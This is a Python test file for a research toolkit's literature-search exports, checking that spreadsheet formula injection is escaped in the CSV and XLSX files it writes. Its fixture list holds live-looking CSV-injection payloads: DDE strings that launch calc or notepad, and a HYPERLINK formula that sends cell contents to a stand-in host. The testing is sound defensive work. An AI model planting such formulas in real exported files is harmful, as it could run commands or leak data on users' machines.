"""Formula injection: titles (and authors) that a spreadsheet would run are neutralised in every XLSX and
CSV the searches wing writes (OWASP, "CSV Injection": a leading single quote; in XLSX a string cell), and
read back as the original text by the toolkit; numbers stay numbers."""

from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from metaexercise.commands.cli import main
from metaexercise.searches.csvexport import read_csv_export
from metaexercise.searches.screening import read_log
from metaexercise.searches.store import SearchFolder, read_records
from metaexercise.spreadsheet_safety import (
    TRIGGERS,
    escape_cell,
    escape_frame,
    is_number_text,
    unescape_cell,
    write_xlsx_cell,
)

#: Titles that become live formulas when a spreadsheet opens an unescaped file.
ATTACKS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?leak="&A1, "Click for the full text")',
    "+1+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'=already quoted by someone",
    "''=twice quoted",
]
DATE = ["--date", "2026-11-01"]


def test_escape_follows_owasp():
    for trigger in TRIGGERS:
        assert escape_cell(f"{trigger}x") == f"'{trigger}x"
    assert escape_cell("=cmd|' /C calc'!A0") == "'=cmd|' /C calc'!A0"
    assert escape_cell("Exercise for back pain") == "Exercise for back pain"
    assert escape_cell("'quoted title") == "'quoted title"  # a quote not before a trigger is left alone
    assert escape_cell("'=x") == "''=x"  # so that unescaping gives "'=x" back


def test_numbers_stay_numbers():
    assert escape_cell(-1.5) == -1.5 and escape_cell(-3) == -3
    for text in ("-1.5", "+3", "-0.25e-3", "2024", "-.5"):
        assert escape_cell(text) == text
    assert escape_cell("-1.5 (95% CI -2 to -1)") == "'-1.5 (95% CI -2 to -1)"  # text is escaped
    frame = escape_frame(pd.DataFrame({"score": [-1.5, 97.0], "title": ["-x", "=1+1"]}))
    assert frame["score"].tolist() == [-1.5, 97.0] and frame["score"].dtype == float
    assert frame["title"].tolist() == ["'-x", "'=1+1"]
    sheet = Workbook().active
    assert write_xlsx_cell(sheet, 1, 1, -1.5).data_type == "n"
    assert write_xlsx_cell(sheet, 1, 2, "-1.5").value == "-1.5"
    cell = write_xlsx_cell(sheet, 1, 3, "=1+1")
    assert (cell.value, cell.data_type) == ("'=1+1", "s")


@given(st.text(max_size=30))
def test_unescape_inverts_escape(text):
    assert unescape_cell(escape_cell(text)) == text
    escaped = escape_cell(text)
    assert escaped[:1] not in TRIGGERS or is_number_text(escaped)  # only a plain number may start so


def _ris(titles: list[str]) -> str:
    return "".join(f"TY  - JOUR\nTI  - {t}\nAU  - {'=1+1' if k == 0 else 'Roe'}, B.\nPY  - {2020 + k}\n"
                   f"DO  - 10.5555/inj.{k}\nER  - \n\n" for k, t in enumerate(titles))


@pytest.fixture
def project(tmp_path: Path) -> Path:
    export = tmp_path / "attack.ris"
    export.write_text(_ris(ATTACKS), encoding="utf-8")
    assert main(["search", "--project", str(tmp_path), "import", str(export), "--database", "Embase", *DATE]) == 0
    return tmp_path


def _raw_csv(path: Path) -> list[dict[str, str]]:
    with open(path, encoding="utf-8", newline="") as fh:
        return list(csv.DictReader(fh))


def _never_live(rows: list[dict[str, str]]) -> None:
    for row in rows:
        for value in row.values():
            assert value[:1] not in TRIGGERS or is_number_text(value)  # only a plain number may start so


def test_records_files_are_escaped_and_read_back(project):
    folder = SearchFolder(project / "searches")
    raw = _raw_csv(next(folder.records_dir.glob("*.csv")))
    assert [r["title"] for r in raw] == [escape_cell(t) for t in ATTACKS]
    assert raw[0]["title"] == "'=cmd|' /C calc'!A0" and raw[0]["authors"] == "'=1+1, B."
    _never_live(raw)
    assert read_records(folder)["title"].tolist() == ATTACKS  # round trip
    # re-importing the records file (the generic CSV layout) gives the same titles
    assert [row["title"] for _, row in read_csv_export(next(folder.records_dir.glob("*.csv")))] == ATTACKS


def test_screening_xlsx_holds_strings_not_formulas(project):
    assert main(["search", "--project", str(project), "screen", "--xlsx"]) == 0
    path = project / "searches" / "screening.xlsx"
    workbook = load_workbook(path)
    sheet = workbook["screening"]
    header = [c.value for c in sheet[1]]
    titles = [sheet.cell(row=r, column=header.index("title") + 1) for r in range(2, sheet.max_row + 1)]
    assert [c.value for c in titles] == [escape_cell(t) for t in ATTACKS]
    assert all(c.data_type == "s" for c in titles)
    assert titles[0].value == "'=cmd|' /C calc'!A0"
    assert not [c for ws in workbook for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert read_log(path)["title"].tolist() == ATTACKS  # round trip


def test_screening_csv_and_new_studies_are_escaped(project):
    assert main(["search", "--project", str(project), "screen"]) == 0
    path = project / "searches" / "screening.csv"
    raw = _raw_csv(path)
    assert [r["title"] for r in raw] == [escape_cell(t) for t in ATTACKS]
    _never_live(raw)
    log = read_log(path)
    assert log["title"].tolist() == ATTACKS and log["authors"].iloc[0] == "=1+1, B."
    # include the first record, write the log back (escaped again) and hand it on to extraction
    log.loc[0, ["ta_decision", "ft_retrieved", "ft_decision"]] = ["include", "yes", "include"]
    from metaexercise.searches.screening import write_log

    write_log(path, log)
    assert read_log(path)["title"].tolist() == ATTACKS
    assert main(["search", "--project", str(project), "included"]) == 0
    studies = _raw_csv(project / "searches" / "new_studies.csv")
    assert studies[0]["titles"] == "'=cmd|' /C calc'!A0" and studies[0]["first_author"] == "'=1+1"
    _never_live(studies)
    for name in ("duplicates.csv", "deduplicated.csv", "imports.csv"):
        _never_live(_raw_csv(project / "searches" / name))


def test_control_characters_never_break_a_workbook(tmp_path):
    """Exports' control characters become spaces on import; any left (a hand-edited file) become U+FFFD in
    the workbook instead of failing it."""
    export = tmp_path / "ctl.csv"
    export.write_text("title,authors,year\nMotor\x00control\x1bexercise,Roe B,2024\n", encoding="utf-8")
    assert [row["title"] for _, row in read_csv_export(export)] == ["Motor control exercise"]
    cell = write_xlsx_cell(Workbook().active, 1, 1, "=bell\x07")
    assert (cell.value, cell.data_type) == ("'=bell\ufffd", "s")
